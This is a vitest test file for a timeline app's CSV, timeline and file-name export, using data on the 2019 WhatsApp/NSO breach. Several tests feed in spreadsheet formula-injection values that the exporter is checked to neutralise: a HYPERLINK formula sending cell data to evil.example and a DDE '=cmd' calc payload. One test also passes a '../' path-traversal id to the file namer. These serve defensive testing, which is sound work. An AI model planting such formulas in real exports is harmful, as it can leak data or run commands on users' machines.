// Exported data: the shown events as CSV and as a smaller timeline in our format, and the names of exported files.
import { describe, it, expect } from 'vitest';
import fc from 'fast-check';
import { csvParse } from 'd3-dsv';
import { eventsCsv, eventsTimeline, CSV_COLUMNS, SOURCE_COLUMNS, TEXT_COLUMNS, sourceColumn } from '../../src/lib/export/data';
import { importTimeline, languageOf } from '../../src/lib/import';
import { exportFileName } from '../../src/lib/export/names';
import { validateTimeline } from '../../src/lib/model/validate';
import { problemLine } from '../../src/lib/model/problems';
import { toItems, type Item } from '../../src/lib/model/items';
import { toPreciseDate } from '../../src/lib/model/dates';
import type { Timeline, TimelineEvent } from '../../src/lib/model/schema';
import { readJson } from '../helpers';

const SEED = 20190513;
const raw = readJson('data/whatsapp-nso-2019.json');
const checked = validateTimeline(raw);
if (!checked.ok) throw new Error(checked.problems.map(problemLine).join('\n'));
const timeline: Timeline = checked.timeline;
const items = toItems(timeline);
const byId = new Map(items.map((item) => [item.id, item]));
const pick = (...ids: string[]) => ids.map((id) => byId.get(id)!);

type Texts = Record<string, string>;
type RawSource = { publisher: string; title: Texts | string; url: string; published?: string; quote?: string; primary?: boolean };
type RawEvent = { id: string; title: Texts; description: Texts; uncertainty: { note: Texts }; actors: string[]; category: string; importance?: number; sources: RawSource[] };
const rawEvent = (raw.events as RawEvent[]).find((e) => e.id === 'ft-report')!;
const rawName = (list: string, id: string, lang: string) => ((raw[list] as { id: string; name: Texts }[]).find((x) => x.id === id)!.name[lang]);

/** The CSV's rows, parsed back as a spreadsheet would, after checking and removing the byte-order mark. */
function parse(csv: string) {
	expect(csv.startsWith('\uFEFF')).toBe(true);
	return csvParse(csv.slice(1));
}

/** The real timeline with one event changed (not validated: the CSV must survive any text). */
function withEvent(id: string, change: (e: TimelineEvent) => void): { t: Timeline; item: Item } {
	const t = structuredClone(timeline);
	change(t.events.find((e) => e.id === id)!);
	return { t, item: toItems(t).find((i) => i.id === id)! };
}

describe('eventsCsv', () => {
	it('writes one row per item in the given order under the exact English header, with a group of columns per source', () => {
		const reversed = [...items].reverse();
		const csv = eventsCsv(timeline, reversed, 'ar', 'UTC');
		const most = Math.max(...items.map((i) => i.event.sources.length));
		expect(most).toBeGreaterThan(2);
		const header = csv.slice(1, csv.indexOf('\n'));
		expect(header).toMatch(
			/^id,start,end,part,earliest,latest,date,precision,title,description,uncertainty_note,actors,category,status,importance,time_zone,title:en,description:en,uncertainty_note:en,source_url,source_publisher,source_title,source_published,source_quote,source_primary,source2_url,source2_publisher,/
		);
		const rows = parse(csv);
		expect(rows.columns).toEqual([...CSV_COLUMNS, ...TEXT_COLUMNS.map((c) => `${c}:en`), ...Array.from({ length: most }, (_, k) => SOURCE_COLUMNS.map((c) => sourceColumn(k + 1, c))).flat()]);
		expect(rows.columns.at(-1)).toBe(`source${most}_primary`);
		expect(rows.map((r) => r.id)).toEqual(reversed.map((i) => i.id));
	});

	it('writes the values of ft-report in English as the data file gives them', () => {
		const row = parse(eventsCsv(timeline, items, 'en', 'UTC')).find((r) => r.id === 'ft-report')!;
		expect(row).toEqual({
			id: 'ft-report',
			start: '2019-05-13',
			end: '',
			date: '13\u2009–\u200914 May 2019',
			precision: 'day',
			part: '',
			earliest: '2019-05-13',
			latest: '2019-05-14',
			title: rawEvent.title.en,
			description: rawEvent.description.en,
			uncertainty_note: rawEvent.uncertainty.note.en,
			'title:ar': rawEvent.title.ar,
			'description:ar': rawEvent.description.ar,
			'uncertainty_note:ar': rawEvent.uncertainty.note.ar,
			actors: rawEvent.actors.map((a) => rawName('actors', a, 'en')).join('; '),
			category: rawName('categories', rawEvent.category, 'en'),
			status: 'confirmed',
			importance: String(rawEvent.importance),
			time_zone: '',
			...Object.fromEntries(
				rawEvent.sources.flatMap((s, k) => [
					[sourceColumn(k + 1, 'url'), s.url],
					[sourceColumn(k + 1, 'publisher'), s.publisher],
					[sourceColumn(k + 1, 'title'), typeof s.title === 'string' ? s.title : s.title.en],
					[sourceColumn(k + 1, 'published'), s.published ?? ''],
					[sourceColumn(k + 1, 'quote'), s.quote ?? ''],
					[sourceColumn(k + 1, 'primary'), s.primary ? 'yes' : '']
				])
			),
			// Columns of sources that other events have and this one does not.
			...Object.fromEntries(Object.keys(row).filter((c) => Number(/^source(\d+)_/.exec(c)?.[1]) > rawEvent.sources.length).map((c) => [c, '']))
		});
		expect(rawEvent.sources.length).toBeGreaterThan(1);
		expect(row.actors).toBe('WhatsApp; Financial Times; NSO Group');
	});

	it('writes Arabic titles, names and dates for ar, keeping ids, statuses and ISO dates as machine values', () => {
		const row = parse(eventsCsv(timeline, items, 'ar', 'UTC')).find((r) => r.id === 'ft-report')!;
		expect(row.title).toBe(rawEvent.title.ar);
		expect(row.actors).toBe(rawEvent.actors.map((a) => rawName('actors', a, 'ar')).join('; '));
		expect(row.category).toBe(rawName('categories', rawEvent.category, 'ar'));
		expect(row.date).toBe('١٣–١٤ مايو ٢٠١٩');
		expect([row.start, row.status, row.precision]).toEqual(['2019-05-13', 'confirmed', 'day']);
	});

	it('falls back to the timeline’s first language for a language the data lacks, and writes the others tagged', () => {
		const [row] = parse(eventsCsv(timeline, pick('ft-report'), 'fr', 'UTC'));
		expect([row.title, row['title:ar'], row['title:fr'], row['title:en']]).toEqual([rawEvent.title.en, rawEvent.title.ar, undefined, undefined]);
		// A locale tag is its language: Arabic untagged, English tagged.
		const [tagged] = parse(eventsCsv(timeline, pick('ft-report'), 'ar-EG-u-nu-latn', 'UTC'));
		expect([tagged.title, tagged['title:en'], tagged['description:en'], tagged['title:ar']]).toEqual([rawEvent.title.ar, rawEvent.title.en, rawEvent.description.en, undefined]);
	});

	it('leaves another language’s cells empty where the data has no text in it, or one text for all languages', () => {
		const { t, item } = withEvent('ft-report', (e) => {
			e.title = 'FT';
			e.description = { en: rawEvent.description.en };
			delete e.uncertainty;
		});
		const [row] = parse(eventsCsv(t, [item], 'en', 'UTC'));
		expect([row.title, row['title:ar'], row.description, row['description:ar'], row['uncertainty_note:ar']]).toEqual(['FT', '', rawEvent.description.en, '', '']);
	});

	it('writes a range’s end, a precise time in the chosen zone, and the start’s precision', () => {
		const rows = parse(eventsCsv(timeline, pick('attack-window', 'cve-published', 'attack-discovered'), 'en', 'Asia/Tokyo'));
		expect(rows.map((r) => [r.end, r.precision])).toEqual([
			['2019-05-10', 'day'],
			['', 'second'],
			['', 'month']
		]);
		expect(rows[1].date).toContain('15 May 2019');
		expect(rows[1].start).toBe('2019-05-14T19:52:40Z');
	});

	it('gives every event’s source URLs back, in order, from its source columns', () => {
		const rows = parse(eventsCsv(timeline, items, 'en', 'UTC'));
		const urls = (row: Record<string, string | undefined>) => Array.from({ length: 99 }, (_, k) => row[sourceColumn(k + 1, 'url')]).filter(Boolean);
		rows.forEach((row, i) => expect(urls(row)).toEqual(items[i].event.sources.map((s) => s.url)));
	});

	it('writes an unsourced event with no source columns, or empty ones when another event has sources', () => {
		const { t, item } = withEvent('nso-denial', (e) => {
			e.sources = [];
			e.unsourced = true;
		});
		const alone = parse(eventsCsv(t, [item], 'en', 'UTC'));
		expect(alone.columns).toEqual([...CSV_COLUMNS, 'title:ar', 'description:ar', 'uncertainty_note:ar']);
		const [row] = parse(eventsCsv(t, [item, byId.get('ft-report')!], 'en', 'UTC'));
		expect(Object.entries(row).filter(([c, v]) => c.startsWith('source') && v !== '')).toEqual([]);
	});

	it.each(['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])(
		'neutralizes a title that a spreadsheet would run as a formula: %j',
		(title) => {
			const { t, item } = withEvent('ft-report', (e) => (e.title = title));
			const [row] = parse(eventsCsv(t, [item], 'en', 'UTC'));
			expect(row.title).toBe(`'${title}`);
		}
	);

	it('neutralizes formula text in actor, category and publisher names, and leaves plain text alone', () => {
		const t = structuredClone(timeline);
		t.actors.find((a) => a.id === 'whatsapp')!.name = '=cmd|"/c calc"!A1';
		t.categories.find((c) => c.id === 'disclosure')!.name = '@disclosure';
		const event = t.events.find((e) => e.id === 'ft-report')!;
		event.sources[0].publisher = '-The National';
		const [row] = parse(eventsCsv(t, toItems(t).filter((i) => i.id === 'ft-report'), 'en', 'UTC'));
		expect(row.actors).toBe(`'=cmd|"/c calc"!A1; Financial Times; NSO Group`);
		expect(row.category).toBe(`'@disclosure`);
		expect([row.source_publisher, row.source2_publisher]).toEqual([`'-The National`, 'Clayton Rice']);
		const { t: t2, item } = withEvent('ft-report', (e) => (e.title = { en: 'FT', ar: '=1+1' }));
		expect(parse(eventsCsv(t2, [item], 'en', 'UTC'))[0]['title:ar']).toBe(`'=1+1`);
		expect(row.title).toBe(rawEvent.title.en);
		expect(row.id).toBe('ft-report');
	});

	it('keeps commas, quotes and line breaks in titles through the round trip', () => {
		const title = { en: 'He said "no", then\nleft, "again"\r\nat once', ar: 'قال «لا»، ثم\nغادر, "مرة أخرى"' };
		const { t, item } = withEvent('ft-report', (e) => (e.title = title));
		for (const lang of ['en', 'ar'] as const) {
			const rows = parse(eventsCsv(t, [item, byId.get('nso-denial')!], lang, 'UTC'));
			expect(rows.map((r) => r.title)).toEqual([title[lang], (byId.get('nso-denial')!.event.title as Texts)[lang]]);
		}
	});
});

describe('eventsCsv, opened again by the import', () => {
	/** The timeline the importer makes of the CSV of all events in `lang`. */
	function reopened(lang: 'en' | 'ar') {
		const result = importTimeline(eventsCsv(timeline, items, lang, 'UTC'), { name: 'whatsapp.csv', lang, today: '2026-12-06' });
		if (!result.ok) throw new Error(result.message);
		return result;
	}

	it.each(['en', 'ar'] as const)('gives back every event with its dates, texts, names and sources in %s', (lang) => {
		const result = reopened(lang);
		// The reader's language first (the file's untagged columns), then the other (its tagged ones).
		expect(result.timeline.languages).toEqual(lang === 'en' ? ['en', 'ar'] : ['ar', 'en']);
		const name = (list: 'actors' | 'categories', id: string) => (timeline[list].find((x) => x.id === id)!.name as Texts)[lang];
		const text = (v: Texts | string) => (typeof v === 'string' ? v : v[lang]);
		expect(result.timeline.events).toHaveLength(timeline.events.length);
		const back = new Map(result.timeline.events.map((e) => [e.id, e]));
		const actorName = new Map(result.timeline.actors.map((a) => [a.id, text(a.name as Texts)]));
		const categoryName = new Map(result.timeline.categories.map((c) => [c.id, text(c.name as Texts)]));
		for (const e of timeline.events) {
			const b = back.get(e.id)!;
			expect([b.start, b.end, b.part, b.status, b.importance, b.timeZone]).toEqual([e.start, e.end, e.part, e.status, e.importance, e.timeZone]);
			// Both languages' titles, descriptions and uncertainty notes, as the data has them.
			expect([b.title, b.description, b.uncertainty?.note]).toEqual([e.title, e.description, e.uncertainty?.note]);
			expect(b.actors.map((a) => actorName.get(a))).toEqual(e.actors.map((a) => name('actors', a)));
			expect(categoryName.get(b.category)).toBe(name('categories', e.category));
			expect(b.sources.map((s) => ({ ...s, title: text(s.title as Texts) }))).toEqual(e.sources.map((s) => ({ ...s, title: text(s.title as Texts) })));
			expect(b.unsourced).toBe(e.unsourced);
			const window = (u: TimelineEvent['uncertainty']) => u && { ...u, note: u.note && text(u.note as Texts) };
			expect(window(b.uncertainty)).toEqual(window(e.uncertainty));
		}
		// The breach's uncertain dates (each with its note) come back.
		expect(timeline.events.filter((e) => e.uncertainty?.note).length).toBe(12);
	});

	it.each(['en', 'ar'] as const)('is read as %s by the language guess of "Open a timeline…", whatever its other language holds', (lang) => {
		expect(languageOf(eventsCsv(timeline, items, lang, 'UTC'))).toBe(lang);
	});

	it('notes the columns written for reading as not read, and no source left out', () => {
		const notes = reopened('en').notes.map((n) => `${n.where}: ${n.message}`);
		expect(notes).toContain('column "date": not read: the dates come from "start" and "end" (the app\'s CSV export writes this column for reading)');
		expect(notes.filter((n) => /source|not carried over/.test(n))).toEqual([]);
	});
});

describe('eventsTimeline', () => {
	const valid = (t: Timeline) => {
		const r = validateTimeline(JSON.parse(JSON.stringify(t)));
		expect(r.ok ? [] : r.problems.map(problemLine)).toEqual([]);
	};

	it('gives a valid timeline of every event, in chronological order, with the whole story and metadata', () => {
		const out = eventsTimeline(timeline, [...items].reverse());
		valid(out);
		expect(out.events.map((e) => e.id)).toEqual(items.map((i) => i.id));
		expect(out.story).toEqual(timeline.story);
		expect(out.eras).toEqual(timeline.eras);
		const { $schema, format, id, title, summary, languages, asOf, timeZone, corrections } = out;
		expect({ $schema, format, id, title, summary, languages, asOf, timeZone, corrections }).toEqual({
			$schema: raw.$schema,
			format: raw.format,
			id: raw.id,
			title: raw.title,
			summary: raw.summary,
			languages: raw.languages,
			asOf: raw.asOf,
			timeZone: raw.timeZone,
			corrections: raw.corrections
		});
	});

	it('keeps one event with only its actors, category, overlapping eras and story step', () => {
		const out = eventsTimeline(timeline, pick('ft-report'));
		valid(out);
		expect(out.actors.map((a) => a.id)).toEqual(['whatsapp', 'nso-group', 'financial-times']);
		expect(out.categories.map((c) => c.id)).toEqual(['disclosure']);
		expect(out.eras.map((e) => e.id)).toEqual(['disclosure-week', 'israeli-case']);
		expect(out.story).toEqual([{ ...timeline.story!.find((s) => s.id === 'ft-report'), events: ['ft-report'] }]);
	});

	it('drops the story when no step names a kept event', () => {
		const out = eventsTimeline(timeline, pick('entity-list'));
		valid(out);
		expect('story' in out).toBe(false);
	});

	it('drops a story step left without events and keeps the others', () => {
		const out = eventsTimeline(timeline, items.filter((i) => i.id !== 'attack-discovered'));
		valid(out);
		expect(out.story!.map((s) => s.id)).toEqual(timeline.story!.map((s) => s.id).filter((id) => id !== 'discovery'));
	});

	it('refuses no events, since the format needs at least one', () => {
		expect(() => eventsTimeline(timeline, [])).toThrow(RangeError);
	});

	it('is valid and minimal for any subset in any order, and leaves the input alone (property)', () => {
		const before = structuredClone(timeline);
		fc.assert(
			fc.property(fc.shuffledSubarray(items, { minLength: 1 }), (subset) => {
				const out = eventsTimeline(timeline, subset);
				valid(out);
				const ids = out.events.map((e) => e.id);
				expect(ids).toEqual(items.map((i) => i.id).filter((id) => subset.some((s) => s.id === id)));
				const actors = new Set(out.events.flatMap((e) => e.actors));
				expect(out.actors.map((a) => a.id)).toEqual(timeline.actors.map((a) => a.id).filter((id) => actors.has(id)));
				const categories = new Set(out.events.map((e) => e.category));
				expect(out.categories.map((c) => c.id)).toEqual(timeline.categories.map((c) => c.id).filter((id) => categories.has(id)));
				for (const step of out.story ?? []) {
					expect(step.events.length).toBeGreaterThan(0);
					expect(step.events.every((id) => ids.includes(id))).toBe(true);
				}
				const lo = Math.min(...subset.map((i) => i.soft?.[0] ?? i.at));
				const hi = Math.max(...subset.map((i) => i.range?.[1] ?? i.soft?.[1] ?? i.at + 1));
				const overlapping = timeline.eras.filter((e) => toPreciseDate(e.start).start < hi && toPreciseDate(e.end).end > lo);
				expect(out.eras).toEqual(overlapping);
			}),
			{ seed: SEED, numRuns: 60 }
		);
		expect(timeline).toEqual(before);
	});
});

describe('exportFileName', () => {
	const day = (iso: string) => Date.parse(iso);
	it.each([
		['whatsapp-nso-2019', 'en', ['2019-05-01', '2019-06-01T12:00Z'], 'svg', undefined, 'whatsapp-nso-2019_en_2019-05-01_2019-06-01.svg'],
		['whatsapp-nso-2019', 'en', ['2019-05-01', '2019-06-01'], 'csv', undefined, 'whatsapp-nso-2019_en_2019-05-01_2019-05-31.csv'],
		['whatsapp-nso-2019', 'ar', ['2019-05-13T08:00Z', '2019-05-13T09:00Z'], 'png', 'print', 'whatsapp-nso-2019_ar_2019-05-13_2019-05-13_print.png'],
		['whatsapp-nso-2019', 'ar-EG-u-nu-latn', ['2019-05-13', '2019-05-14'], 'json', undefined, 'whatsapp-nso-2019_ar-eg-u-nu-latn_2019-05-13_2019-05-13.json'],
		['../My Timeline_ü/x', 'EN', ['2019-05-01', '2019-05-03'], 'png', 'Print 2×', 'my-timeline-x_en_2019-05-01_2019-05-02_print-2.png']
	] as const)('names %s in %s over %j as a %s (%s)', (id, lang, [a, b], ext, variant, expected) => {
		const name = exportFileName(id, lang, [day(a), day(b)], ext, variant);
		expect(name).toBe(expected);
		expect(name).toMatch(/^[a-z0-9._-]+$/);
	});
});
